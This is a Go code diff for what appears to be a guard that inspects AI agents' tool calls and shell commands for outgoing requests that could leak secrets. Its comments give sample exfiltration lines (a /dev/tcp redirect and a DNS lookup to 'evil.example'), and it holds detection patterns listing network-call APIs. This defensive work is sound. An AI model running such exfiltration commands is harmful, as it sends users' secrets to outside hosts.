@@ -7,6 +7,7 @@ import (
 	"path/filepath"
 	"sort"
 	"strings"
+	"unicode/utf8"
 
 	"github.com/overseer-dev/overseer/internal/action"
 	"github.com/overseer-dev/overseer/internal/guard/secrets"
@@ -24,6 +25,49 @@ type request struct {
 	Parts []secrets.Part
 	// Files are the files whose content it sends (read by Check).
 	Files []sentFile
+	// Scripts are the texts of the scripts an interpreter runs (their
+	// variables are judged like the command line's).
+	Scripts []string
+	// Configs are the config files curl reads (-K files first, then the
+	// default .curlrc); ExplicitConfigs counts the -K ones, whose text is
+	// scanned as a sent file already.
+	Configs         []string
+	ExplicitConfigs int
+}
+
+// maxScript bounds the script read for an interpreter.
+const maxScript = 256 << 10
+
+// scriptOf reads the script an interpreter runs (python x.py, node
+// x.js, deno run x.ts): the first operand after the options, when it is a
+// regular file of at most maxScript bytes. Inline code (-c, -e) has no
+// script.
+func scriptOf(args []string, cwd string) (string, string) {
+	for i := 0; i < len(args); i++ {
+		x := args[i]
+		switch {
+		case x == "-c" || x == "-e" || x == "-E" || x == "-r" || x == "-m" || x == "--eval" || x == "-p" ||
+			x == "--print" || x == "eval" || x == "-Command" || x == "-command":
+			return "", "" // inline code or a module
+		case x == "run" && i == 0:
+			continue // deno run, bun run
+		case strings.HasPrefix(x, "-"):
+			continue
+		}
+		p := x
+		if !filepath.IsAbs(p) {
+			if cwd == "" || !filepath.IsAbs(cwd) {
+				return "", ""
+			}
+			p = filepath.Join(cwd, p)
+		}
+		b, err := readCapped(p, maxScript)
+		if err != nil || !utf8.Valid(b) {
+			return "", ""
+		}
+		return x, string(b)
+	}
+	return "", ""
 }
 
 // requests returns the outgoing requests of a, or nil when it sends
@@ -33,18 +77,74 @@ func requests(a *action.Action) []request {
 	if kind == "" {
 		kind = action.InferKind(a.Tool)
 	}
+	if webSearchTools[a.Tool] {
+		// The query is sent to the model provider's search engine (and
+		// from there to the sites it searches).
+		var parts []secrets.Part
+		for _, k := range sortedKeys(a.Args) {
+			parts = append(parts, valueParts(k, a.Args[k])...)
+		}
+		return []request{{Dest: "web search", By: a.Tool, Parts: parts}}
+	}
 	switch kind {
 	case action.KindNetFetch:
+		if rs := promptFetches(a); rs != nil {
+			return rs
+		}
 		return []request{fetchRequest(a)}
 	case action.KindShell:
 		return shellRequests(a)
 	case action.KindFileRead, action.KindFileWrite, action.KindFileEdit, action.KindFileDelete, action.KindPrompt, action.KindSQL:
 		return nil
 	}
-	if _, ok := a.Args["command"].(string); ok && len(a.Facts.Commands) > 0 {
+	if commandText(a.Args) != "" && len(a.Facts.Commands) > 0 {
 		return shellRequests(a)
 	}
 	return toolRequests(a, kind)
+}
+
+// commandText is a shell action's command line: args.command or
+// args.cmd, a string or a list of words (Codex's shell tool: ["bash",
+// "-lc", "…"]), joined with spaces.
+func commandText(args map[string]any) string {
+	for _, k := range []string{"command", "cmd"} {
+		switch v := args[k].(type) {
+		case string:
+			return v
+		case []string:
+			return strings.Join(v, " ")
+		case []any:
+			words := make([]string, 0, len(v))
+			for _, e := range v {
+				if s, ok := e.(string); ok {
+					words = append(words, s)
+				}
+			}
+			return strings.Join(words, " ")
+		}
+	}
+	return ""
+}
+
+// webSearchTools are the agents' web search tools: the query leaves the
+// machine.
+var webSearchTools = map[string]bool{"WebSearch": true, "web_search": true, "google_web_search": true}
+
+// promptFetches are the requests of a fetch tool that takes its URLs in
+// its prompt (Gemini CLI's web_fetch: "Summarize https://…"), when it has
+// no URL argument: each URL of the prompt is fetched.
+func promptFetches(a *action.Action) []request {
+	if u, _ := a.StringArg("url", "uri"); u != "" {
+		return nil
+	}
+	p, _ := a.Args["prompt"].(string)
+	var out []request
+	for _, u := range urlInText.FindAllString(p, -1) {
+		if h := hostOf(u); h != "" {
+			out = append(out, request{Dest: h, By: a.Tool, Parts: urlParts(u)})
+		}
+	}
+	return out
 }
 
 // fetchRequest is a web fetch: its URL, headers and body. The prompt of
@@ -94,8 +194,32 @@ func toolRequests(a *action.Action, kind action.Kind) []request {
 		r := request{Dest: d, By: a.Tool}
 		if i == 0 {
 			r.Parts = parts // scanned once: the findings name every destination
+			r.Files = attachedFiles(a.Args)
 		}
 		out = append(out, r)
+	}
+	return out
+}
+
+// attachKey names the arguments of a tool that carry files to send
+// (an e-mail's attachments, an upload).
+var attachKey = lazyre.New(`(?i)attach|upload|^files?$|^file_?paths?$`)
+
+// attachedFiles are the files a tool call attaches or uploads: absolute or
+// ~/ paths under an argument named for it. The tool's server reads them,
+// so no other guard sees their content: a secret file among them is
+// scanned and named (nested).
+func attachedFiles(args map[string]any) []sentFile {
+	var out []sentFile
+	for _, k := range sortedKeys(args) {
+		if !attachKey.MatchString(k) {
+			continue
+		}
+		walkStrings(args[k], func(s string) {
+			if (strings.HasPrefix(s, "/") || strings.HasPrefix(s, "~/")) && !strings.ContainsAny(s, "\n\x00") && len(s) < 4096 {
+				out = append(out, sentFile{path: s, how: "attached (" + k + ")", nested: true})
+			}
+		})
 	}
 	return out
 }
@@ -258,16 +382,131 @@ var senders = map[string]func(args []string, cwd string) []string{
 	"aws": cloudDests, "gsutil": cloudDests, "gcloud": cloudDests, "az": cloudDests, "azcopy": cloudDests,
 	"rclone": rcloneDests, "mail": mailDests, "sendmail": mailDests, "mutt": mailDests, "mailx": mailDests,
 	"git": gitDests, "dig": dnsDests, "nslookup": dnsDests, "host": dnsDests, "ping": dnsDests,
+	"drill": dnsDests, "kdig": dnsDests, "delv": dnsDests, "getent": dnsDests, "resolvectl": dnsDests,
+	// Other URL clients: browsers in a terminal, WebSocket, gRPC and load
+	// tools.
+	"lynx": urlDests, "w3m": urlDests, "links": urlDests, "elinks": urlDests, "websocat": urlDests,
+	"wscat": urlDests, "grpcurl": urlDests, "ab": urlDests, "hey": urlDests, "wrk": urlDests, "siege": urlDests,
+	"gh": ghDests,
+	// Programs that fetch from a URL they are given: the URL itself (its
+	// path, query, user) is what they send. A browser opened on a URL
+	// sends it too.
+	"npm": urlArgDests, "pnpm": urlArgDests, "yarn": urlArgDests, "bun": urlArgDests, "pip": urlArgDests,
+	"pip3": urlArgDests, "pipx": urlArgDests, "uv": urlArgDests, "gem": urlArgDests, "cargo": urlArgDests,
+	"helm": urlArgDests, "kubectl": urlArgDests, "docker": urlArgDests, "podman": urlArgDests, "brew": urlArgDests,
+	"composer": urlArgDests, "xdg-open": urlArgDests, "open": urlArgDests, "wslview": urlArgDests,
+	"sensible-browser": urlArgDests, "firefox": urlArgDests, "chromium": urlArgDests, "google-chrome": urlArgDests,
+}
+
+// urlArgDests: the hosts of the URLs among the arguments (nil when there
+// is none: npm test, docker ps).
+func urlArgDests(args []string, _ string) []string {
+	var out []string
+	for _, x := range args {
+		for _, u := range urlInText.FindAllString(x, -1) {
+			if h := hostOf(u); h != "" {
+				out = appendNew(out, h)
+			}
+		}
+	}
+	return out
+}
+
+// interpreters run code given inline (python -c, node -e …) or a script:
+// what the code sends is not known, but the URLs it names and the network
+// calls it makes are. They are requests to the hosts of the URLs in their
+// arguments, or to a destination that is not static when the code calls
+// the network without a literal URL.
+var interpreters = []string{"python", "node", "nodejs", "deno", "bun", "perl", "ruby", "php", "pwsh", "powershell",
+	"osascript", "lua", "Rscript", "julia", "java", "jshell", "groovy", "tclsh", "awk", "gawk"}
+
+func isInterpreter(name string) bool {
+	for _, p := range interpreters {
+		if name == p || strings.HasPrefix(name, p) && strings.Trim(name[len(p):], "0123456789.") == "" {
+			return true
+		}
+	}
+	return false
+}
+
+// urlInText finds the URLs in a text (inline code, a command line).
+var urlInText = lazyre.New(`(?i)\b(?:https?|wss?|ftps?)://[^\s"'\x60<>(){}\[\]\\]+`)
+
+// netCall matches code that opens a network connection without a literal
+// URL: sockets, HTTP clients, DNS lookups.
+var netCall = lazyre.New(`(?i)urlopen|urllib|requests\.(?:get|post|put|patch)|http\.client|httpx|aiohttp|socket|getaddrinfo|gethostbyname|\bfetch\s*\(|XMLHttpRequest|https?\.(?:get|request)|\bnet\.(?:connect|createConnection)|dns\.(?:lookup|resolve)|LWP|HTTP::Tiny|IO::Socket|Net::HTTP|open-uri|URI\.open|TCPSocket|curl_init|file_get_contents\s*\(\s*['"]https?|fsockopen|stream_socket_client|Invoke-WebRequest|Invoke-RestMethod|iwr\b|irm\b|WebClient|HttpClient|/inet/tcp|do shell script`)
+
+func interpreterDests(args []string, _ string) []string {
+	var out []string
+	for _, x := range args {
+		for _, u := range urlInText.FindAllString(x, -1) {
+			if h := hostOf(u); h != "" {
+				out = appendNew(out, h)
+			}
+		}
+	}
+	if out != nil {
+		return out
+	}
+	for _, x := range args {
+		if netCall.MatchString(x) {
+			return []string{} // a destination that is not static
+		}
+	}
+	return nil
+}
+
+// ghDests: gh commands that send data to GitHub (gists, API writes,
+// issues and pull requests, release uploads, secrets).
+func ghDests(args []string, _ string) []string {
+	w := nonOptions(args)
+	if len(w) < 2 && !(len(w) == 1 && w[0] == "api") {
+		return nil
+	}
+	switch w[0] {
+	case "gist":
+		if w[1] == "create" || w[1] == "edit" {
+			return []string{"gist.github.com"}
+		}
+	case "api":
+		for _, a := range args {
+			if a == "-f" || a == "-F" || a == "--field" || a == "--raw-field" || a == "--input" ||
+				strings.HasPrefix(a, "--field=") || strings.HasPrefix(a, "--raw-field=") || strings.HasPrefix(a, "--input=") {
+				return []string{"api.github.com"}
+			}
+		}
+	case "issue", "pr":
+		if w[1] == "create" || w[1] == "comment" || w[1] == "edit" {
+			return []string{"github.com"}
+		}
+	case "release":
+		if w[1] == "create" || w[1] == "upload" {
+			return []string{"github.com"}
+		}
+	case "secret", "variable":
+		if w[1] == "set" {
+			return []string{"github.com"}
+		}
+	}
+	return nil
 }
 
 // shellRequests are the shell command's sending commands. Each carries the
 // whole command line (a literal secret anywhere in it, a here-document, a
 // variable assigned before) and its own arguments one by one.
 func shellRequests(a *action.Action) []request {
-	cmd, _ := a.Args["command"].(string)
+	cmd := commandText(a.Args)
 	var out []request
 	for _, c := range a.Facts.Commands {
 		fn, ok := senders[c.Name]
+		var script, scriptName string
+		if !ok && isInterpreter(c.Name) {
+			fn, ok = interpreterDests, true
+			// A script the interpreter runs is judged like inline code.
+			if scriptName, script = scriptOf(c.Args, a.Cwd); script != "" {
+				c.Args = append(append([]string(nil), c.Args...), script)
+			}
+		}
 		if !ok {
 			continue
 		}
@@ -284,9 +523,22 @@ func shellRequests(a *action.Action) []request {
 		if len(dests) == 0 {
 			dests = []string{"(" + by + ": destination not static)"}
 		}
+		// A proxy set for the command (HTTPS_PROXY=… curl …) receives the
+		// request too (all of it, for a plain-HTTP URL).
+		for _, m := range findAllIf(proxyAssign, cmd, "roxy=", "ROXY=") {
+			if h := proxyHost(m[1]); h != "" {
+				dests = appendNew(dests, h)
+			}
+		}
 		parts := []secrets.Part{{Name: "command", Text: cmd}}
 		for _, x := range c.Args {
 			parts = append(parts, secrets.Part{Name: by + " argument", Text: x})
+			if isInterpreter(c.Name) {
+				for _, u := range urlInText.FindAllString(x, -1) {
+					parts = append(parts, urlParts(u)...)
+				}
+				continue
+			}
 			switch {
 			case strings.Contains(x, "://"):
 				parts = append(parts, urlParts(x)...)
@@ -302,16 +554,70 @@ func shellRequests(a *action.Action) []request {
 				}
 			}
 		}
+		if script != "" {
+			by += " " + scriptName
+		}
 		for i, d := range dests {
 			r := request{Dest: d, By: by}
 			if i == 0 {
 				r.Parts = parts
 				r.Files = sentFiles(c)
+				if script != "" {
+					r.Scripts = []string{script}
+				}
+				switch c.Name {
+				case "curl":
+					ex, im := curlConfigs(c, cmd)
+					r.Configs, r.ExplicitConfigs = append(ex, im...), len(ex)
+				case "wget":
+					ex, im := wgetConfigs(c, cmd)
+					r.Configs, r.ExplicitConfigs = append(ex, im...), len(ex)
+				}
 			}
 			out = append(out, r)
 		}
 	}
+	// Bash's /dev/tcp/HOST/PORT and /dev/udp/HOST/PORT: a redirection to
+	// one is a connection (echo "$T" > /dev/tcp/evil.example/80).
+	for _, p := range a.Facts.Paths {
+		rest, ok := strings.CutPrefix(p.Path, "/dev/tcp/")
+		if !ok {
+			rest, ok = strings.CutPrefix(p.Path, "/dev/udp/")
+		}
+		if !ok {
+			continue
+		}
+		h, _, _ := strings.Cut(rest, "/")
+		if h == "" || strings.ContainsAny(h, "$`") {
+			h = "(/dev/tcp: destination not static)"
+		}
+		r := request{Dest: strings.ToLower(h), By: "a /dev/tcp connection"}
+		if len(out) == 0 {
+			r.Parts = []secrets.Part{{Name: "command", Text: cmd}}
+		}
+		out = append(out, r)
+	}
 	return out
+}
+
+// proxyAssign matches a proxy variable assigned in a command line.
+var proxyAssign = lazyre.New(`(?i)\b(?:https?|all|ftp|socks)_proxy=["']?([^\s"';&|]+)`)
+
+// findAllIf runs re on text only when text holds one of the literals
+// every match has (the expressions are slow on long command lines).
+func findAllIf(re *lazyre.Regexp, text string, lits ...string) [][]string {
+	if !hasAny(text, lits) {
+		return nil
+	}
+	return re.FindAllStringSubmatch(text, -1)
+}
+
+// proxyHost is the host of a proxy setting (a URL or host:port).
+func proxyHost(v string) string {
+	if !strings.Contains(v, "://") {
+		v = "http://" + v
+	}
+	return hostOf(v)
 }
 
 func firstWord(args []string) string {
@@ -377,6 +683,10 @@ func looksLikeHost(x string) bool {
 		return false
 	}
 	return true
+}
+
+func hostChar(r rune) bool {
+	return r == '.' || r == '-' || r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9'
 }
 
 func isIPv4(h string) bool {
@@ -601,6 +911,20 @@ func dnsDests(args []string, _ string) []string {
 		if looksLikeHost(x) && strings.Count(x, ".") >= 3 {
 			labels := strings.Split(strings.TrimSuffix(strings.ToLower(x), "."), ".")
 			out = appendNew(out, strings.Join(labels[len(labels)-2:], "."))
+			continue
+		}
+		// A name built by the shell ($T.evil.example, $(…).evil.example):
+		// its labels are data the guard cannot see; the domain is the
+		// literal tail.
+		if strings.ContainsAny(x, "$`") {
+			tail := strings.Trim(x, `"'`)
+			if i := strings.LastIndexFunc(tail, func(r rune) bool { return !hostChar(r) }); i >= 0 {
+				tail = tail[i+1:]
+			}
+			tail = strings.Trim(strings.ToLower(tail), ".")
+			if labels := strings.Split(tail, "."); len(labels) >= 2 && looksLikeHost(tail) {
+				out = appendNew(out, strings.Join(labels[len(labels)-2:], "."))
+			}
 		}
 	}
 	if len(out) == 0 {
@@ -613,7 +937,22 @@ func dnsDests(args []string, _ string) []string {
 // for a named remote.
 func gitDests(args []string, cwd string) []string {
 	w := nonOptions(args)
-	if len(w) == 0 || w[0] != "push" {
+	if len(w) == 0 {
+		return nil
+	}
+	switch w[0] {
+	case "push":
+	case "clone", "fetch", "pull", "ls-remote", "submodule", "archive", "remote":
+		// A URL given to git is sent (its path and user too); a named
+		// remote's URL is the repository's own configuration.
+		var out []string
+		for _, x := range args {
+			if strings.Contains(x, "://") && !strings.HasPrefix(x, "file://") {
+				out = appendNew(out, remoteHost(x))
+			}
+		}
+		return out
+	default:
 		return nil
 	}
 	remote := "origin"
